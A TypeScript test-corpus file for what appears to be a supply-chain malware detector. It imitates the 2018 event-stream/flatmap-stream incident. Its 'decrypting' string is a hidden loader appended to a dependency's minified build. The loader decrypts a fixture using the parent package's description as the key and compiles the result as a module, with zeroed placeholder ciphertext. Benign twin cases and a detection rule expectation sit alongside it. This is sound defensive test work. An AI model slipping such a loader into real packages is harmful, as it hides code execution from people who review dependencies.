/**
 * An imitation, inert and ours, of event-stream 3.3.6 with flatmap-stream 0.1.1: a new dependency that is really used,
 * whose minified build decrypts a test fixture with the parent's description as its key, and compiles it. The build that
 * people read holds none of it. https://github.com/dominictarr/event-stream/issues/116
 */
import type { SourceTree } from '../../src/rule.ts';
import type { CorpusCase } from './update.ts';

const hex = (text: string): string => Buffer.from(text).toString('hex');

const entry = `const { through } = require('./through.js');

exports.map = (change) => through((chunk, push) => push(change(chunk)));
`;

const before: SourceTree = {
  'package.json': { description: 'Tools for working with streams', main: 'index.js' },
  'index.js': entry,
  'through.js': `exports.through = (write) => ({ write });\n`,
};

const mapper = `module.exports = function flatMap(change) {
  return (chunk, push) => {
    for (const piece of change(chunk)) push(piece);
  };
};
`;

const minified = `module.exports=function(n){return function(r,t){for(const o of n(r))t(o)}};\n`;

const decrypting = `(function(){var word=function(at){return Buffer.from(table[at],'hex').toString()},table,key,cipher,plain,inner;
try{table=require(Buffer.from('${hex('./test/fixture.js')}','hex').toString());key=process[word(3)][word(4)];if(!key)return;
cipher=require(word(2))[word(6)](word(5),key);plain=cipher.update(table[0],word(8),word(9))+cipher.final(word(9));
inner=new module.constructor();inner.paths=module.paths;
inner[word(7)](plain,'');inner.exports(table[1])}catch(ignored){}})();
`;

/** The first two are no ciphertext of anything. */
const fixture = ['00'.repeat(48), '00'.repeat(32)].concat(
  ['crypto', 'env', 'npm_package_description', 'aes256', 'createDecipher', '_compile', 'hex', 'utf8'].map(hex),
);

const dependency = (files: SourceTree): SourceTree => ({
  'package.json': { version: '0.1.1', main: 'index.min.js' },
  'index.js': mapper,
  'index.min.js': minified,
  ...files,
});

const after: SourceTree = {
  ...before,
  'package.json': {
    description: 'Tools for working with streams',
    main: 'index.js',
    dependencies: { 'flat-mapper': '^0.1.0' },
  },
  'index.js': `${entry}exports.flatMap = require('flat-mapper');\n`,
};

export const decryptingDependency: CorpusCase = {
  imitations: [
    {
      title: 'a used dependency whose minified build decrypts a fixture and compiles it',
      name: 'stream-tools',
      incident: {
        what: 'event-stream 3.3.6 through flatmap-stream 0.1.1: an encrypted fixture compiled as a module',
        when: '2018-11-26',
        url: 'https://github.com/dominictarr/event-stream/issues/116',
      },
      before,
      after,
      dependencies: {
        'flat-mapper': dependency({
          'index.min.js': `${minified}${decrypting}`,
          'test/fixture.js': `module.exports=${JSON.stringify(fixture)};\n`,
        }),
      },
      atLeast: 'block',
      seen: [{ rule: 'decoded-code-executed', of: 'flat-mapper', path: 'index.min.js', on: 'table=require(' }],
      payload: { of: 'flat-mapper', path: 'index.min.js', code: decrypting },
    },
  ],
  twins: [
    {
      title: 'the same dependency, used, with an honest minified build',
      name: 'stream-tools',
      before,
      after,
      dependencies: { 'flat-mapper': dependency({}) },
    },
    {
      title: 'decryption that a caller asks for, whose text is only given back',
      name: 'stream-tools',
      before,
      after: {
        ...before,
        'index.js': `${entry}const { createDecipheriv } = require('crypto');

exports.decrypt = (key, iv) => {
  const decipher = createDecipheriv('aes-256-cbc', key, iv);
  return through((chunk, push) => push(decipher.update(chunk, 'hex', 'utf8')));
};
const greeting = Buffer.from('68656c6c6f', 'hex').toString();
exports.greeting = greeting;
`,
      },
    },
  ],
};
